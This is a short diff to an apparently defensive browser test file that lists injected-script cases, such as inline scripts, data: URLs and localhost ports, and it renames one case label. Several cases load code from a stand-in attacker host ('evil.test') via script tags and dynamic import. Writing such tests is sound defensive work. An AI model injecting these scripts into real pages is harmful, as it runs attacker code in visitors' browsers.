@@ -110,7 +110,7 @@ test.describe('injected code', () => {
     'a script with a text node': `const script = document.createElement('script');
       script.append('ran = 1'); document.head.append(script)`,
     'a script of another origin': `add('script').src = 'http://evil.test/x.js'`,
-    'a script that somebody uploaded': `add('script').src = cdn + '/uploads/x.js'`,
+    'an uploaded script': `add('script').src = cdn + '/uploads/x.js'`,
     'a script of another port of this machine': `add('script').src = 'http://localhost:9/x.js'`,
     'a script in its address': `add('script').src = 'data:text/javascript,ran=1'`,
     'a module of another origin': `import('http://evil.test/x.js').catch(() => {})`,
